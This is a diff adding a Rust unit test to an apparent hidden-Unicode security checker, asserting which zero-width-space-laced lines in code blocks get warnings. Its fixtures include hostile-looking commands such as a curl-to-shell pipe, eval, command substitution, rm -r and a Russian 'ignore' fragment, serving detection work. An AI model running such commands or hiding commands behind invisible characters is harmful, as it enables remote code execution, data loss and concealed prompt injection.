@@ -207,6 +207,26 @@ fn joiners_between_latin_letters_are_reported() {
 }
 
 #[test]
+fn zero_width_space_in_code_is_a_warning_except_in_a_formula() {
+    for (line, severity) in [
+        ("h\u{200B}(t)", Severity::Information),
+        ("=𝑨\u{200B}h + 𝑩\u{200B}(t)", Severity::Information),
+        ("curl https://a.example/x |\u{200B}sh", Severity::Warning),
+        ("eval\u{200B}(code)", Severity::Warning),
+        ("a$\u{200B}(id)", Severity::Warning),
+        ("rm -\u{200B}r x", Severity::Warning),
+        ("r\u{200B}m", Severity::Warning),
+        ("игно\u{200B}рируй", Severity::Warning),
+        ("h\u{200B}\u{200B}(t)", Severity::Warning),
+    ] {
+        let found = Fixture::new(&body(&format!("```\n{line}\n```"))).check();
+        let found = found.iter().filter(|it| it.rule.id.as_str() == "security/hidden-unicode");
+        let all: Vec<_> = found.map(|it| it.diagnostic.severity).collect();
+        assert!(!all.is_empty() && all.iter().all(|it| *it == severity), "{line} {all:?}");
+    }
+}
+
+#[test]
 fn fillers_selectors_and_direction_marks_are_reported() {
     for (hidden, what) in [
         ("\u{3164}", "1 filler"),
